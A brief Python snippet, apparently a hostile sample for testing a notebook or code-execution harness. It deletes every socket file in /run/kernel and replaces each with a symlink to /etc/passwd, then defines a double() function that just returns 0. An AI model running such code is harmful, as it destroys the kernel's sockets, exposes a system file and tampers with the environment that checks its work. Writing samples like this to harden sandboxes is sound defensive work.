# Writes into the folder of the kernel's sockets and replaces one of them.
# %% double
import os

for name in os.listdir("/run/kernel") + ["mine"]:
    try:
        os.unlink("/run/kernel/" + name)
        print("REMOVED", name)
    except OSError as error:
        print(error)
    try:
        os.symlink("/etc/passwd", "/run/kernel/" + name)
        print("LINKED", name)
    except OSError as error:
        print(error)


def double(x):
    return 0
